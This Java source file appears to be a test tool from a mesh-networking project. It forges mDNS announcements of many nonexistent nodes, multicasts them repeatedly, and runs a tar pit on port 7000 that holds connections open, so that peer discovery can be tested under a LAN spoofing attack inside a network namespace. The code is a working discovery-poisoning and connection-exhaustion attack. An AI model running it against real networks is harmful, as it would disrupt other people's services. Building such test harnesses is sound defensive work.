package dev.logmesh.netns;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.MulticastSocket;
import java.net.NetworkInterface;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * A test tool: forged mDNS announcements of many logmesh nodes that do not exist, as an attacker on the LAN would
 * send them (well-formed, unsolicited responses with PTR, SRV, TXT and A records, TTL chosen by the sender). Run by
 * {@code scripts/test-netns-overlay.sh} inside a network namespace of its own, never on a real interface.
 *
 * <pre>
 *   java dev.logmesh.netns.MdnsForger BIND_IP MESH COUNT SECONDS TARGET_IP...
 * </pre>
 *
 * <p>Forged node {@code i} is {@code forged<i>} of mesh {@code MESH} at {@code TARGET_IP[i % n]:7000}. The targets
 * mix what costs a victim most: this host (a tar pit on port 7000 accepts connections and never answers, so a dial
 * hangs until its timeout), addresses nobody holds (the dial times out), and real nodes (the dial reaches a node
 * with another id). Every forged node is announced again every 10 s until {@code SECONDS} have passed. Prints one
 * line per round.
 */
public final class MdnsForger {
    private static final InetSocketAddress GROUP = new InetSocketAddress("224.0.0.251", 5353);
    private static final int TTL_SECONDS = 3600;
    private static final int PACKET_BYTES = 1300;

    private MdnsForger() {
    }

    public static void main(String[] args) throws Exception {
        if (args.length < 5) {
            System.err.println("usage: MdnsForger BIND_IP MESH COUNT SECONDS TARGET_IP...");
            System.exit(2);
        }
        InetAddress bind = InetAddress.getByName(args[0]);
        String mesh = args[1];
        int count = Integer.parseInt(args[2]);
        long until = System.currentTimeMillis() + Long.parseLong(args[3]) * 1000;
        List<InetAddress> targets = new ArrayList<>();
        for (int i = 4; i < args.length; i++) {
            targets.add(InetAddress.getByName(args[i]));
        }
        tarPit(bind);
        List<byte[]> packets = packets(mesh, count, targets);
        try (MulticastSocket socket = new MulticastSocket(new InetSocketAddress(bind, 0))) {
            socket.setNetworkInterface(NetworkInterface.getByInetAddress(bind));
            socket.setTimeToLive(255);
            int round = 0;
            while (System.currentTimeMillis() < until) {
                int sent = 0;
                for (byte[] p : packets) {
                    socket.send(new DatagramPacket(p, p.length, GROUP));
                    if (++sent % 20 == 0) {
                        Thread.sleep(2); // the victim's socket buffer, not a rate limit of ours
                    }
                }
                System.out.println("round " + ++round + ": " + count + " forged nodes in " + packets.size()
                    + " packets");
                System.out.flush();
                Thread.sleep(10_000);
            }
        }
        System.exit(0);
    }

    /** Accepts connections on port 7000 and holds them without a word. */
    private static void tarPit(InetAddress bind) throws IOException {
        ServerSocket server = new ServerSocket();
        server.bind(new InetSocketAddress(bind, 7000), 1024);
        Thread t = new Thread(() -> {
            List<Socket> held = new ArrayList<>();
            while (true) {
                try {
                    held.add(server.accept()); // kept open (and referenced) until the process ends
                    if (held.size() % 500 == 0) {
                        System.out.println("tar pit holds " + held.size() + " connections");
                    }
                } catch (IOException e) {
                    return;
                }
            }
        }, "tar-pit");
        t.setDaemon(true);
        t.start();
    }

    static List<byte[]> packets(String mesh, int count, List<InetAddress> targets) throws IOException {
        List<byte[]> out = new ArrayList<>();
        List<byte[]> records = new ArrayList<>();
        int bytes = 12;
        for (int i = 0; i < count; i++) {
            byte[] r = nodeRecords("forged" + i, mesh, targets.get(i % targets.size()));
            if (bytes + r.length > PACKET_BYTES && !records.isEmpty()) {
                out.add(packet(records));
                records.clear();
                bytes = 12;
            }
            records.add(r);
            bytes += r.length;
        }
        if (!records.isEmpty()) {
            out.add(packet(records));
        }
        return out;
    }

    /** A response header (id 0, QR and AA set) and the records; four answers per node. */
    private static byte[] packet(List<byte[]> records) throws IOException {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        short16(b, 0);
        short16(b, 0x8400);
        short16(b, 0);
        short16(b, records.size() * 4);
        short16(b, 0);
        short16(b, 0);
        for (byte[] r : records) {
            b.write(r);
        }
        return b.toByteArray();
    }

    /** PTR, SRV, TXT and A records of one forged node. */
    private static byte[] nodeRecords(String id, String mesh, InetAddress target) throws IOException {
        String type = "_logmesh._tcp.local";
        String instance = id + "." + type;
        String host = id + ".local";
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        record(b, type, 12, false, name(instance));
        ByteArrayOutputStream srv = new ByteArrayOutputStream();
        short16(srv, 0);
        short16(srv, 0);
        short16(srv, 7000);
        srv.write(name(host));
        record(b, instance, 33, true, srv.toByteArray());
        ByteArrayOutputStream txt = new ByteArrayOutputStream();
        for (String kv : List.of("node=" + id, "mesh=" + mesh, "proto=5")) {
            byte[] s = kv.getBytes(StandardCharsets.UTF_8);
            txt.write(s.length);
            txt.write(s);
        }
        record(b, instance, 16, true, txt.toByteArray());
        record(b, host, 1, true, target.getAddress());
        return b.toByteArray();
    }

    private static void record(ByteArrayOutputStream b, String owner, int type, boolean unique, byte[] rdata)
        throws IOException {
        b.write(name(owner));
        short16(b, type);
        short16(b, unique ? 0x8001 : 0x0001);
        short16(b, TTL_SECONDS >>> 16);
        short16(b, TTL_SECONDS & 0xffff);
        short16(b, rdata.length);
        b.write(rdata);
    }

    private static byte[] name(String dotted) {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        for (String label : dotted.split("\\.", -1)) {
            if (label.isEmpty()) {
                continue; // a trailing dot: the root label is written below
            }
            byte[] l = label.getBytes(StandardCharsets.UTF_8);
            b.write(l.length);
            b.write(l, 0, l.length);
        }
        b.write(0);
        return b.toByteArray();
    }

    private static void short16(ByteArrayOutputStream b, int v) {
        b.write((v >>> 8) & 0xff);
        b.write(v & 0xff);
    }
}
